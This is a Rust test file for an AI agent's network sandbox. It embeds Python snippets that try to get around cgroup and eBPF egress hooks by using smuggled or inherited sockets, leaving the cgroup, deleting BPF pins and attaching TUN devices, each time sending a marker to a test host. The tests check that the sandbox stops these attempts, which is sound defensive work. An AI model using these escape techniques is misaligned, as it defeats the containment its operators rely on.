//! What no hook can see: sockets that were born outside the cgroup, and processes that leave it. The
//! hooks are all in force in these tests, and are gone around; the sandbox is what stops them.

use std::io::{IoSlice, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixListener;
use std::process::Stdio;

use nix::sys::socket::{ControlMessage, MsgFlags, sendmsg};

use super::range::{Range, fixture_without};
use crate::launch::launch;
use crate::support::process::finish;

/// A Unix socket whose owner hands a network socket to whoever connects, as a daemon of the person could.
struct Accomplice {
    _folder: tempfile::TempDir,
    path: String,
}

impl Accomplice {
    fn new(clients: usize) -> Self {
        let open = std::fs::Permissions::from_mode(0o755);
        let folder = tempfile::Builder::new().permissions(open).tempdir_in("/tmp").unwrap();
        let path = folder.path().join("daemon.sock");
        let listener = UnixListener::bind(&path).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
        listener.set_nonblocking(false).unwrap();
        std::thread::spawn(move || {
            for client in listener.incoming().take(clients) {
                let given = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
                let fds = [given.as_raw_fd()];
                let rights = [ControlMessage::ScmRights(&fds)];
                let _ = sendmsg::<()>(
                    client.unwrap().as_raw_fd(),
                    &[IoSlice::new(b"x")],
                    &rights,
                    MsgFlags::empty(),
                    None,
                );
            }
        });
        Self { path: path.to_str().unwrap().to_owned(), _folder: folder }
    }
}

#[test]
fn a_socket_that_somebody_outside_hands_in() {
    let range = Range::new();
    let accomplice = Accomplice::new(1);
    let attack = format!(
        "door = socket.socket(socket.AF_UNIX)
sent(lambda: door.connect('{}'))
door.settimeout(2)
try:
    _, fds, _, _ = socket.recv_fds(door, 1, 4)
    for fd in fds: sent(lambda: socket.socket(fileno=fd).sendto(mark, (there4, 9999)))
except OSError as error: print(error)",
        accomplice.path
    );
    range.sandbox_alone_stops(&attack);
}

#[test]
fn a_descriptor_that_is_inherited() {
    let range = Range::new();
    let given = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    nix::fcntl::fcntl(&given, nix::fcntl::FcntlArg::F_SETFD(nix::fcntl::FdFlag::empty())).unwrap();
    let attack = format!(
        "sent(lambda: socket.socket(socket.AF_INET, UDP, 17, fileno={}).sendto(mark, (there4, 9999)))",
        given.as_raw_fd()
    );
    range.sandbox_alone_stops(&attack);
}

#[test]
fn a_network_socket_as_standard_input() {
    let range = Range::new();
    let attack =
        "sent(lambda: socket.socket(socket.AF_INET, UDP, 17, fileno=0).sendto(mark, (there4, 9999)))";
    let socket = || {
        let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
        Stdio::from(std::os::fd::OwnedFd::from(socket))
    };
    let words = range.python(attack);
    let outcome = finish(launch(&[], &[]).args(&words).stdin(socket()));
    assert_eq!(outcome.code, Some(125), "{outcome:?}");
    assert!(range.packets().is_empty());
    let fixture = fixture_without(&[]);
    let join = "echo $$ > \"$0/cgroup.procs\" && exec \"$@\"";
    let mut bare = crate::support::process::command("/bin/sh");
    finish(bare.args(["-c", join]).arg(&fixture.cgroup).args(&words).stdin(socket())).ok();
    assert!(!range.packets().is_empty(), "the attack does not bite");
}

/// The hooks follow a socket's birth: one that is made outside is seen by none.
#[test]
fn moving_out_of_the_cgroup() {
    let range = Range::new();
    let attack = r"
for line in open('/proc/self/mounts'):
    _, point, kind, *_ = line.split()
    if kind == 'cgroup2':
        try: open(point + '/cgroup.procs', 'w').write(str(os.getpid()))
        except OSError as error: print(error)
try:
    os.makedirs('/tmp/agentsecrets-hostile-cgroup', exist_ok=True)
    libc.mount(b'none', b'/tmp/agentsecrets-hostile-cgroup', b'cgroup2', 0, None)
    open('/tmp/agentsecrets-hostile-cgroup/cgroup.procs', 'w').write(str(os.getpid()))
except OSError as error: print(error)
libc.umount2(b'/tmp/agentsecrets-hostile-cgroup', 2)
sent(lambda: udp().sendto(mark, (there4, 9999)))";
    range.sandbox_alone_stops(attack);
    let _ = std::fs::remove_dir("/tmp/agentsecrets-hostile-cgroup");
}

/// Removing a pin detaches its hook: as root it can be done, and the sandbox has no bpffs.
#[test]
fn removing_our_pins() {
    let range = Range::new();
    let attack = r"
import shutil
shutil.rmtree('/sys/fs/bpf/agentsecrets/PINS', ignore_errors=True)
time.sleep(0.1)
sent(lambda: udp().sendto(mark, (there4, 9999)))";
    let fixture = fixture_without(&[]);
    let pins = fixture.pins.file_name().unwrap().to_str().unwrap().to_owned();
    assert!(!range.shoot_at(&fixture, &attack.replace("PINS", &pins)).is_empty(), "it does not bite");
    drop(fixture);
    // An agent does not know its run's name: it tries them all.
    let attack = attack.replace("/PINS", "");
    let kept = fixture_without(&[]);
    assert!(range.shoot_from_sandbox(&attack).is_empty());
    assert!(kept.pins.join("as_egress").exists());
}

/// A device that injects packets as if they came from a wire, if one of the agent's user is there.
#[test]
fn a_tunnel_that_belongs_to_the_agents_user() {
    let number = std::process::id() % 100_000;
    let device = format!("ast{number}");
    let ip = |words: &[&str]| finish(crate::support::process::command("ip").args(words));
    ip(&["tuntap", "add", "dev", &device, "mode", "tun", "user", "65534"]).ok();
    let attack = format!(
        "import fcntl, struct
try:
    tunnel = open('/dev/net/tun', 'r+b', buffering=0)
    fcntl.ioctl(tunnel, 0x400454ca, struct.pack('16sH22x', b'{device}', 0x1001))
    print('attached')
except OSError as error: print('refused')"
    );
    let python = ["/usr/bin/python3", "-c", &attack];
    // Most systems give the device to everybody, since what counts is whose the tunnel is.
    let node = "/dev/net/tun";
    let before = std::fs::metadata(node).unwrap().permissions();
    std::fs::set_permissions(node, std::fs::Permissions::from_mode(0o666)).unwrap();
    let inside = finish(&mut launch(&[], &python));
    let mut bare = crate::support::process::command("setpriv");
    let outside = finish(bare.args(["--reuid", "65534", "--clear-groups", "--no-new-privs"]).args(python));
    std::fs::set_permissions(node, before).unwrap();
    ip(&["link", "delete", &device]).ok();
    assert_eq!(inside.stdout.trim(), "refused", "{inside:?}");
    assert_eq!(outside.stdout.trim(), "attached", "{outside:?}");
}

/// Bytes that are fed to standard input by a pipe stay what they are: no way out, but a way in.
#[test]
fn what_stays_allowed_still_works() {
    let mut child = launch(&[], &["cat"]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(b"through").unwrap();
    assert_eq!(child.wait_with_output().unwrap().stdout, b"through");
}
